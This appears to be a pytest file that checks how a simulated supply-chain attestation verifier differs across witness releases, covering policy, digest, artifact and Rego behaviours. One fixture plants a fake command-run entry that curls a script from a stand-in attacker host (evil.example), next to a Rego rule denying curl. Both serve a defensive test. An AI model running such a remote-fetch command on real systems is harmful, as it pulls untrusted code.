"""The verification behaviours that differ between witness releases (`versions.py`).

Each test runs every profile and expects the outcome its profile flag says, so each one fails under
the older profile and passes under the newer one (or the reverse) — REFERENCE.md §0.1, §4.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Sequence
from typing import Any

import pytest
from verify_world import World, as_source, resign

from witness_evals.common.errors import InputError
from witness_evals.witness import simulate, versions
from witness_evals.witness.rego import RegoSandbox
from witness_evals.witness.verify import MemorySource, SourceCollection, VerifyOptions, verify
from witness_evals.witness.versions import NAMES, NETWORK_TRACE_TYPE

CMD = "https://witness.dev/attestations/command-run/v0.1"
MATERIAL = "https://witness.dev/attestations/material/v0.1"


@pytest.fixture(scope="module")
def sandbox() -> Any:
    with RegoSandbox() as sb:
        yield sb


def _edit_materials(stmt: dict[str, Any], path: str, digest: dict[str, str]) -> None:
    for att in stmt["predicate"]["attestations"]:
        if att["type"] == MATERIAL:
            att["attestation"][path] = digest


def test_profiles_are_declarative_and_cited() -> None:
    assert versions.DEFAULT == "0.12" and NAMES == ("0.10", "0.11", "0.12")
    for name in versions.BEHAVIOURS:
        assert name in versions.SOURCES, name
    v10, v11, v12 = (versions.get(n) for n in NAMES)
    assert (v10.go_witness, v11.go_witness, v12.go_witness) == ("v0.9.1", "v0.10.0", "v0.12.0")
    assert versions.get("v0.10.2") is v10 and versions.get("0.12.0") is v12 and versions.get(None) is v12
    with pytest.raises(InputError, match="unknown witness version"):
        versions.get("0.13")
    assert versions.since("zero_step_fails") == "since witness v0.12"
    assert versions.since("dotwitness_error") == "since witness v0.11"
    assert versions.since("passphrase_flag") == "only in witness v0.10"


@pytest.mark.parametrize("version", NAMES)
def test_zero_step_policy(world: World, version: str) -> None:
    pol = world.policy()
    pol["steps"] = {}
    res = world.verify(pol, version=version)
    assert res.passed is not versions.get(version).zero_step_fails
    assert res.witness_version == version


@pytest.mark.parametrize("version", NAMES)
def test_empty_attestations_list(world: World, version: str) -> None:
    res = world.verify(world.policy(attestation_types={"build": []}), version=version)
    if not versions.get(version).empty_attestations_fails:
        assert res.passed, res.reasons
        return
    assert not res.passed
    assert (
        "collection rejected: build, Reason: collection validation failed:\n - step build declares no required "
        "attestations; an empty attestations list is not a valid gate"
    ) in res.reasons


@pytest.mark.parametrize("version", NAMES)
def test_artifacts_from_needs_an_overlapping_path(world: World, version: str) -> None:
    env = world.pipe.steps["package"].envelope

    def move(stmt: dict[str, Any]) -> None:
        for att in stmt["predicate"]["attestations"]:
            if att["type"] == MATERIAL:
                att["attestation"] = {f"elsewhere/{k}": v for k, v in att["attestation"].items()}

    cols = [world.collections()[0], as_source(resign(env, world.package_key, move), "p.json")]
    res = world.verify(collections=cols, version=version)
    if not versions.get(version).artifacts_need_overlap:
        assert res.passed, res.reasons  # a vacuous pass
        return
    assert not res.passed
    assert any(
        "failed to verify artifacts: [no artifacts in common between the step's materials and the referenced "
        "step's artifacts]" in r
        for r in res.reasons
    ), res.reasons


@pytest.mark.parametrize("version", NAMES)
def test_artifacts_from_searches_past_a_non_matching_candidate(world: World, version: str) -> None:
    """Two passed `build` collections; the first one's materials disagree with `package`'s."""
    build = world.pipe.steps["build"].envelope
    other = resign(build, world.build_key, lambda s: _edit_materials(s, ".git/HEAD", {"sha256": "e" * 64}))
    cols = [as_source(other, "build-retry.json"), *world.collections()]
    res = world.verify(collections=cols, version=version)
    assert len({p.reference for p in res.steps["build"].passed}) == 2
    if versions.get(version).artifacts_need_overlap:
        assert res.passed, res.reasons  # the second candidate matches
    else:
        assert not res.passed  # the search stopped at the first mismatching candidate
        assert any("mismatched digests for .git/HEAD" in r for r in res.reasons), res.reasons


@pytest.mark.parametrize("version", NAMES)
def test_rego_runs_on_every_attestation_of_a_type(world: World, sandbox: Any, version: str) -> None:
    env = world.pipe.steps["build"].envelope

    def duplicate(stmt: dict[str, Any]) -> None:
        atts = stmt["predicate"]["attestations"]
        cmd = next(a for a in atts if a["type"] == CMD)
        first = copy.deepcopy(cmd)
        first["attestation"]["cmd"] = ["curl", "http://evil.example/x.sh"]
        atts.insert(atts.index(cmd), first)  # the benign one stays last

    rego = simulate.rego_module(
        "no curl",
        'package commandrun.nocurl\n\ndeny[msg] {\n\tinput.cmd[0] == "curl"\n\tmsg := "curl is not allowed"\n}\n',
    )
    pol = world.policy(rego={"build": {CMD: [rego]}})
    cols = [as_source(resign(env, world.build_key, duplicate), "b.json"), world.collections()[1]]
    res = world.verify(pol, collections=cols, rego=sandbox, version=version)
    if not versions.get(version).rego_on_every_attestation:
        assert res.passed, res.reasons
        return
    assert not res.passed
    assert any(
        f"rego policy evaluation failed for attestor type {CMD}: policy was denied due to: curl is not allowed"
        in r
        for r in res.reasons
    )


@pytest.mark.parametrize("version", NAMES)
def test_digest_equality_on_the_strongest_shared_hash(world: World, version: str) -> None:
    """build records `.git/HEAD` with sha1 only, package with sha1 + sha256: they share only the weak hash."""
    sha1 = "a" * 40
    build = resign(
        world.pipe.steps["build"].envelope,
        world.build_key,
        lambda s: _edit_materials(s, ".git/HEAD", {"sha1": sha1}),
    )
    package = resign(
        world.pipe.steps["package"].envelope,
        world.package_key,
        lambda s: _edit_materials(s, ".git/HEAD", {"sha1": sha1, "sha256": "b" * 64}),
    )
    res = world.verify(
        collections=[as_source(build, "b.json"), as_source(package, "p.json")], version=version
    )
    if not versions.get(version).strongest_digest:
        assert res.passed, res.reasons
        return
    assert not res.passed
    assert any("mismatched digests for .git/HEAD" in r for r in res.reasons), res.reasons


class _NameAgnosticSource(MemorySource):
    """A source that routes collections to steps without looking at names (what go-witness v0.12.0's
    exact-name check guards against: any VerifiedSourcer may do this)."""

    def search(self, name: str, digests: set[str], types: Sequence[str]) -> list[SourceCollection]:
        return [
            c
            for group in self._by_name.values()
            for c in group
            if not c.digest_values.isdisjoint(digests) and all(t in c.types for t in types)
        ]


@pytest.mark.parametrize("version", NAMES)
def test_unnamed_collection_matches_no_step(world: World, version: str) -> None:
    env = world.pipe.steps["build"].envelope
    unnamed = as_source(resign(env, world.build_key, lambda s: s["predicate"].update(name="")), "b.json")
    source = _NameAgnosticSource([unnamed, world.collections()[1]])
    res = world.verify(collections=source, version=version)
    if versions.get(version).exact_collection_name:
        assert not res.passed
        assert not res.steps["build"].passed
    else:
        assert res.passed, res.reasons
        assert res.steps["build"].passed[0].name == ""


@pytest.mark.parametrize("version", NAMES)
def test_step_results_deduplicated_across_search_depths(world: World, version: str) -> None:
    res = world.verify(version=version)
    assert res.passed
    dedupe = versions.get(version).dedupe_results
    assert len(res.steps["build"].passed) == (1 if dedupe else 3)
    # rejections are de-duplicated too (same collection, same reason): nothing found at any depth
    missing = world.verify(version=version, subjects=["0" * 64])
    rejected = [
        r.reason for r in missing.steps["build"].rejected if not r.reason.startswith("failed to verify")
    ]
    assert "no verifiers present to validate against collection verifiers" in rejected
    assert len(rejected) == (len(set(rejected)) if dedupe else 3 * len(set(rejected)))


def _network_trace_collection(world: World) -> bytes:
    env = world.pipe.steps["build"].envelope

    def add(stmt: dict[str, Any]) -> None:
        stmt["predicate"]["attestations"].append(
            {
                "type": NETWORK_TRACE_TYPE,
                "attestation": {"connections": []},
                "starttime": "2025-06-01T12:00:00Z",
                "endtime": "2025-06-01T12:00:01Z",
            }
        )

    return resign(env, world.build_key, add).dumps().encode()


@pytest.mark.parametrize("version", NAMES)
def test_network_trace_attestations_load_only_where_the_attestor_exists(world: World, version: str) -> None:
    data = _network_trace_collection(world)
    if not versions.get(version).network_trace:
        with pytest.raises(InputError, match=f"attestation not found: {NETWORK_TRACE_TYPE}"):
            SourceCollection.load(data, "b.json", version=version)
        return
    col = SourceCollection.load(data, "b.json", version=version)
    assert NETWORK_TRACE_TYPE in col.types
    types = [a.type for a in world.pipe.steps["build"].collection.attestations] + [NETWORK_TRACE_TYPE]
    res = world.verify(
        world.policy(attestation_types={"build": types}),
        collections=[col, world.collections()[1]],
        version=version,
    )
    assert res.passed, res.reasons


def test_options_object_carries_everything(world: World) -> None:
    env = simulate.sign_policy(world.policy(), world.policy_key)
    opts = VerifyOptions(version="0.11", policy_verifiers=[world.policy_key.verifier()])
    assert isinstance(opts.policy_verifiers, tuple) and opts.version is versions.get("0.11")
    res = verify(env, world.collections(), [world.pipe.artifact_digest], opts)
    assert res.passed and res.witness_version == "0.11"
    # keyword changes apply on top of the object
    assert (
        verify(env, world.collections(), [world.pipe.artifact_digest], opts, version="0.12").to_json()[
            "witness_version"
        ]
        == "0.12"
    )
    assert json.loads(json.dumps(res.to_json()))["witness_version"] == "0.11"
